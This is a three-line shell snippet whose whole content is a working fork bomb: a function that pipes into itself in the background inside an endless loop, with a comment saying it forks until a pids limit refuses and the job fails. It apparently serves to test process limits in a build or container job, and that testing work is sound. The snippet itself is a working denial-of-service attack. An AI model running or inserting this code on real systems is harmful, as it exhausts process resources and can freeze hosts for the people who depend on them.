# Forks without end until the pids limit refuses; the shell that cannot fork fails the job.
bomb() { bomb | bomb & }
while :; do bomb; done
